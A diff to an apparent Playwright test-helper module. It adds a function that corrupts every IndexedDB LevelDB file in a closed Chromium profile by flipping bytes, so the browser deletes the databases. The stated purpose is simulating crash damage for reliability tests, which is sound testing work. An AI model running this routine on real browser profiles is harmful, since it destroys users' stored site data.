@@ -3,7 +3,8 @@
 //
 //   const browser = await launchBrowser();                 // a fresh, throwaway profile
 //   const context = await launchPersistent(profileDir);    // IndexedDB on disk, survives restarts
-import { readdir } from 'node:fs/promises';
+import { readdir, readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
 import { readFileSync } from 'node:fs';
 import { chromium } from 'playwright-core';
 
@@ -64,3 +65,25 @@ export function processGroup(pid) {
 }
 
 export const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+
+/**
+ * Damages the IndexedDB files of every origin in the (closed) browser profile `profile`: flips
+ * bytes all through the LevelDB logs and tables, so that Chromium finds them corrupt at the next
+ * open and deletes the databases (what a browser kill sometimes leads to, RELIABILITY.md §3).
+ * Returns how many files it damaged.
+ */
+export async function damageIndexedDb(profile) {
+  const root = join(profile, 'Default', 'IndexedDB');
+  let damaged = 0;
+  for (const dir of await readdir(root)) {
+    if (!dir.endsWith('.indexeddb.leveldb')) continue;
+    for (const file of await readdir(join(root, dir))) {
+      if (!file.endsWith('.log') && !file.endsWith('.ldb')) continue;
+      const bytes = await readFile(join(root, dir, file));
+      for (let i = 64; i < bytes.length; i += 61) bytes[i] ^= 0xff;
+      await writeFile(join(root, dir, file), bytes);
+      damaged += 1;
+    }
+  }
+  return damaged;
+}
